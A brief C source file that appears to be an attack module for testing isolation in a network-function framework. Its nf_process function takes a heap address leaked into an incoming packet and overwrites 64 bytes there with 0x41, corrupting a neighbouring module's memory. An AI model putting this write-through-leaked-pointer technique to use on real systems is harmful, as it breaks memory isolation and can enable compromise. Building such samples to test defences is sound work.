/* Writes into the heap of the module before it, whose address that module leaked into the packet. */
#include "attack.h"

int nf_init(void)
{
	attack_init();
	return 0;
}

int nf_process(const struct nfcc_packet *pkt)
{
	if (attack_now() && pkt->len >= 30) {
		uint8_t *victim = (uint8_t *)(uintptr_t)get_u64(pkt->data + 14);
		for (int i = 0; i < 64; i++)
			victim[i] = 0x41;
	}
	return 0;
}
